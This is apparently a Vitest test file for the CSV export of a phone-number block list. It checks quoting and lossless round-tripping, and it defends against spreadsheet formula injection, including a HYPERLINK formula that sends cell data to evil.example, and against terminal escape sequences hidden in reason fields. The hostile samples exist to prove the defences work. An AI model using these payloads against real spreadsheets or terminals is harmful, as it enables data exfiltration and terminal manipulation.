import { describe, expect, it } from 'vitest';
import { formatExport, parseImport } from '../../../src/reputation/index.js';
import type { ListRecord } from '../../../src/reputation/types.js';

async function text(records: ListRecord[]): Promise<string> {
  let out = '';
  for await (const line of formatExport(records)) out += line;
  return out;
}

const records: ListRecord[] = [
  { list: 'block', entry: { kind: 'number', e164: '+33612345678' }, reason: 'spam, "again"\r\nline 2', source: 'import:csv', addedAt: Date.UTC(2026, 0, 2), expiresAt: null },
  { list: 'allow', entry: { kind: 'prefix', prefix: '+3393' }, reason: ' ☎ 日本語 ', source: 'cli', addedAt: Date.UTC(2026, 0, 2, 3, 4, 5, 6), expiresAt: Date.UTC(2027, 0, 1) },
  { list: 'block', entry: { kind: 'number', e164: '+12025550143' }, reason: null, source: 'import:ftc', addedAt: 0, expiresAt: null },
];

describe('formatExport', () => {
  it('writes the chut header first, then one quoted-as-needed CSV record per entry', async () => {
    expect(await text(records)).toBe(
      'list,kind,entry,reason,source,added_at,expires_at\n' +
      'block,number,+33612345678,"spam, ""again""\r\nline 2",import:csv,2026-01-02T00:00:00.000Z,\n' +
      'allow,prefix,+3393," ☎ 日本語 ",cli,2026-01-02T03:04:05.006Z,2027-01-01T00:00:00.000Z\n' +
      'block,number,+12025550143,,import:ftc,1970-01-01T00:00:00.000Z,\n');
  });

  it('is lossless: parseImport(format chut) gives back exactly the same records', async () => {
    const parsed = parseImport(await text(records), { format: 'chut', list: 'block', source: 'x', defaultCountry: 'FR', now: 0 });
    expect(parsed.records).toEqual(records);
    expect(parsed.stats).toEqual({ taken: 3, skipped: 0, skippedWhy: {}, firstSkipped: [] });
  });

  it('defuses reasons and sources a spreadsheet would run as formulas, and still round-trips them exactly', async () => {
    const tricky = ['=HYPERLINK("http://evil.example/?"&C2,"x")', "'=1+1", "''@SUM(1)", '-5 dB', '+33 spam', '@cmd', '\tTab',
      "'hello", '-12.5', '+1', 'plain'];
    const recs: ListRecord[] = tricky.map((reason, i) => ({
      list: 'block', entry: { kind: 'number', e164: `+336123456${String(i).padStart(2, '0')}` }, reason, source: i === 0 ? '=source()' : 'cli', addedAt: 0, expiresAt: null,
    }));
    const out = await text(recs);
    const lines = out.trim().split('\n').slice(1);
    // what a spreadsheet would see: no cell starting with = + - @ or a tab, but numbers
    expect(lines[0]).toContain(`"'=HYPERLINK(""http://evil.example/?""&C2,""x"")",'=source()`);
    expect(lines[1]).toContain(",''=1+1,");
    expect(lines[3]).toContain(",'-5 dB,");
    expect(lines[4]).toContain(",'+33 spam,");
    expect(lines[8]).toContain(',-12.5,');
    expect(lines[9]).toContain(',+1,');
    const back = parseImport(out, { format: 'chut', list: 'block', source: 'x', defaultCountry: 'FR', now: 0 });
    expect(back.records.map((r) => [r.reason, r.source])).toEqual(recs.map((r) => [r.reason, r.source]));
  });

  it('defuses the formulas a spreadsheet splitting at `;` (Excel in France, Germany…), tabs or line breaks would find inside a reason or source', async () => {
    // Such a spreadsheet reads the comma file one cell per `;`-separated piece: a quote in mid-cell is plain text, so a
    // quoted line break ends the row too. `spam;=1+1;x` was a cell `=1+1` there, run as a formula (LibreOffice with
    // `;` as its separator showed 2).
    const tricky = ['spam;=1+1;x', 'spam\n=2+2', 'spam\r\n@SUM(1)', 'a;-4+4', 'b;+33 spam', 'c\t=5+5', '\t=6', 'd;""=7',
      "e;'=8", "f;''=9", 'g;+33612345678', "it's;fine", '=10;=11', 'h;', ';=12'];
    const recs: ListRecord[] = tricky.map((reason, i) => ({
      list: 'block', entry: { kind: 'number', e164: `+336123456${String(i).padStart(2, '0')}` }, reason,
      source: i === 0 ? 'src;=7+7' : 'cli', addedAt: 0, expiresAt: null,
    }));
    const out = await text(recs);
    const cells = out.split(/[;\t\r\n]/);
    expect(cells.filter((cell) => /^"*[=+\-@]/.test(cell))).toEqual([]);
    expect(out).toContain(",spam;'=1+1;x,src;'=7+7,");
    const back = parseImport(out, { format: 'chut', list: 'block', source: 'x', defaultCountry: 'FR', now: 0 });
    expect(back.records.map((r) => [r.reason, r.source])).toEqual(recs.map((r) => [r.reason, r.source]));
  });

  it('never writes a control character of a reason (an escape sequence would reach the terminal of `chut export`)', async () => {
    const out = await text([{ ...records[0] as ListRecord, reason: 'spam\u001b]0;owned\u0007\u001b[2J\u009bALLOWED' }]);
    expect(out).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    expect(out).toContain('spam]0;owned[2JALLOWED');
  });

  it('writes only the header for empty lists', async () => {
    expect(await text([])).toBe('list,kind,entry,reason,source,added_at,expires_at\n');
  });
});
